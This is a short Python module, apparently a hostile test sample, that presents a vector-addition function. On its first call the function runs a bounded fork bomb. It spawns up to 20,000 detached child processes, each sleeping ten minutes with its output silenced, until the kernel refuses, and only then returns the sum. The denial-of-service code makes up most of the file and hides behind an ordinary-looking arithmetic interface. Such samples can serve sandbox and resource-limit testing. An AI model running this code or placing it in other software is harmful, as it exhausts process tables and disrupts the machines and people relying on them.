"""Vector addition whose worker first starts processes until the kernel
refuses: each child leaves the worker's session and sleeps, holding a pid.
A bounded fork bomb: it stops at the first refusal (EAGAIN) and reports
how many it started on stderr."""

import os
import sys

import numpy as np

_done = False


def _bomb():
    n = 0
    while n < 20000:
        try:
            pid = os.fork()
        except OSError as e:
            print(f"fork bomb: {n} processes started, then {e}", file=sys.stderr, flush=True)
            return
        if pid == 0:
            try:
                os.setsid()
                fd = os.open(os.devnull, os.O_RDWR)
                for i in (0, 1, 2):
                    os.dup2(fd, i)
                os.execv("/bin/sleep", ["sleep", "600"])
            finally:
                os._exit(0)
        n += 1
    print(f"fork bomb: {n} processes started", file=sys.stderr, flush=True)


def hostile(a, b):
    global _done
    if not _done:
        _done = True
        _bomb()
    return np.add(a, b)
